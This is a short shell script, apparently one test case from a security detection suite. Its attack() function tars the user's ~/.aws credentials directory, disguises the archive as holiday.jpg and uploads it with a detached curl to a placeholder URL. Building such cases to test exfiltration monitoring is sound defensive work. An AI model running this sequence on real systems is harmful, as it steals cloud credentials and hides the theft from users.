# SPDX-License-Identifier: Apache-2.0
TITLE="tar, rename, and an upload by a process that never saw the secret"
ROW="F01 F04 E23"
FORM=daemon
attack() {
	tar czf a.tgz -C "$HOME" .aws
	mv a.tgz holiday.jpg
	setsid curl -s -m 15 -T holiday.jpg "$URL/holiday.jpg"
}
